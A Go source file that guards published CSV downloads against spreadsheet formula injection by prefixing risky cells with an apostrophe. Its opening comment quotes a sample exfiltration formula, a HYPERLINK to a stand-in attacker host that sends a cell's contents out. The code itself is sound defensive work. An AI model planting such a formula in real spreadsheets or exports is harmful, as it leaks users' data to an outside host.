package dataset

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"strings"
	"sync"
)

// Downloads must not attack the reader's spreadsheet. A cell that starts
// with =, +, -, @, a tab or a carriage return is read by Excel, LibreOffice
// and Google Sheets as a formula (=HYPERLINK("http://evil.example/?x="&A1)
// sends the sheet away), so such a text gets a leading apostrophe, as
// OWASP recommends ("CSV Injection"); spreadsheets show it as plain text.
// Plain numbers (-3.5, +1.234,5, -12 %) are left as they are: they are read
// as numbers, not formulas. This is the one rule for every CSV the site
// publishes (dataset copies, data/index.csv); the chart's CSV download,
// made in the browser, mirrors it in csvCell in
// themes/default/assets/tablero.js.

// NeutralizeCell returns cell as it is written in a published CSV: with a
// leading apostrophe when a spreadsheet would take it for a formula.
func NeutralizeCell(cell string) string {
	if !IsFormula(cell) {
		return cell
	}
	return "'" + cell
}

// IsFormula reports whether a spreadsheet would read cell as a formula: it
// starts with =, +, -, @, a tab or a carriage return and is not a plain
// number.
func IsFormula(cell string) bool {
	cell = strings.TrimPrefix(cell, "\ufeff") // a byte order mark, which spreadsheets skip
	if cell == "" || strings.IndexByte(formulaStarts, cell[0]) < 0 {
		return false
	}
	if cell[0] == '+' || cell[0] == '-' {
		return !plainNumber(cell[1:])
	}
	return true
}

// formulaStarts are the bytes a cell that is a formula starts with.
const formulaStarts = "=@\t\r+-"

// plainNumber reports whether s is digits with the usual separators
// (".", ",", " "), at least one digit, and perhaps a final "%": nothing a
// spreadsheet could evaluate.
func plainNumber(s string) bool {
	digit := false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9':
			digit = true
		case c == '.' || c == ',' || c == ' ':
		case c == '%' && i == len(s)-1:
		default:
			return false
		}
	}
	return digit
}

// NeutralizeCSV returns the CSV data (separated by delim; detected from the
// first line when 0) with every cell, headers included, passed through
// NeutralizeCell. When no cell needs it, data itself is returned, byte for
// byte; otherwise a copy written with the same separator, its lines ended
// by LF (the CSV writer's CRLF mode drops a lone CR inside a cell).
func NeutralizeCSV(data []byte, delim rune) []byte {
	if delim == 0 {
		delim, _ = sniff(data[:min(len(data), headSize)])
	}
	// A file holding none of the bytes a formula starts with has none:
	// most are not read a second time.
	if bytes.IndexAny(data, formulaStarts) < 0 || !hasFormula(bytes.NewReader(data), delim) {
		return data
	}
	var b bytes.Buffer
	b.Grow(len(data) + len(data)/64)
	if err := writeNeutralized(&b, bytes.NewReader(data), delim); err != nil {
		return data // cannot happen with a bytes.Buffer
	}
	return b.Bytes()
}

// NeutralizeOpen is NeutralizeCSV for a file too large to hold: open gives
// the CSV, and the function returned gives it neutralised, read from open
// again as it is written. A file with no formula is given as it is.
func NeutralizeOpen(open func() (io.ReadCloser, error), delim rune) func() (io.ReadCloser, error) {
	return func() (io.ReadCloser, error) {
		f, err := open()
		if err != nil {
			return nil, err
		}
		br := bufio.NewReaderSize(f, headSize)
		head, _ := br.Peek(headSize)
		d := delim
		if d == 0 {
			d, _ = sniff(head)
		}
		found := hasFormula(br, d)
		f.Close()
		if f, err = open(); err != nil || !found {
			return f, err
		}
		return Piped(func(w io.Writer) error {
			defer f.Close()
			return writeNeutralized(w, f, d)
		}), nil
	}
}

func csvReader(r io.Reader, delim rune) (cr *csv.Reader, done func()) {
	cr, done = bufferedCSV(r)
	cr.Comma = delim
	cr.FieldsPerRecord = -1
	cr.LazyQuotes = true // the file was checked; read whatever it holds
	cr.ReuseRecord = true
	return cr, done
}

// csvBuffers are the read buffers of CSV readers, which csv.NewReader
// would make anew for every file (4 KB each, twice per dataset).
var csvBuffers = sync.Pool{New: func() any { return bufio.NewReader(nil) }}

// bufferedCSV returns a CSV reader of r reading through a pooled buffer,
// and the function that gives the buffer back once the reader is done.
func bufferedCSV(r io.Reader) (cr *csv.Reader, done func()) {
	br := csvBuffers.Get().(*bufio.Reader)
	br.Reset(r)
	return csv.NewReader(br), func() {
		br.Reset(nil)
		csvBuffers.Put(br)
	}
}

// hasFormula reports whether any cell of the CSV in r is a formula.
func hasFormula(r io.Reader, delim rune) bool {
	cr, done := csvReader(r, delim)
	defer done()
	for {
		rec, err := cr.Read()
		if err != nil {
			var pe *csv.ParseError
			if errors.As(err, &pe) {
				continue
			}
			return false
		}
		for _, f := range rec {
			if IsFormula(f) {
				return true
			}
		}
	}
}

// writeNeutralized copies the CSV in r to w, every cell through
// NeutralizeCell.
func writeNeutralized(w io.Writer, r io.Reader, delim rune) error {
	cr, done := csvReader(r, delim)
	defer done()
	cw := csv.NewWriter(w)
	cw.Comma = delim
	for {
		rec, err := cr.Read()
		if err == io.EOF {
			break
		}
		var pe *csv.ParseError
		if err != nil && !errors.As(err, &pe) {
			return err
		}
		if len(rec) == 1 && rec[0] == "" {
			continue // a blank row ("" alone): the CSV writer would write an empty line
		}
		for i, f := range rec {
			rec[i] = NeutralizeCell(f)
		}
		if err := cw.Write(rec); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}
